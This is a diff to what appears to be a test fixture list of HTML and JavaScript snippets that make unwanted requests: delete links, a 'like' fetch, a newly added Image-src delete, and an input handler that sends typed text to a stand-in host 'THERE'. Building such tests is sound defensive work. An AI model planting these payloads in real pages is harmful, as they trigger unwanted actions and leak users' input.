@@ -201,6 +201,7 @@ ADDRESSES = [
     Way("a link that deletes", f"<a href=/effect/items/7/delete {AT}>x</a>"),
     Way("a link that says what it does", f"<a href=/effect?id=7 {AT}>Löschen</a>"),
     Way("a link with an action", f"<a href='/effect?action=unsubscribe&id=7' {AT}>here</a>"),
+    Way("a picture that deletes", button("new Image().src='/effect/delete?id=7'")),
     Way("a script that likes", button("fetch('/effect/like?id=7')")),
     Way("a picture that carries what was typed", f"<input {IN} onchange=\"new Image().src='THERE/effect?d='+this.value\">",
         (Write("my own words", 100, 90), Click(300, 200))),
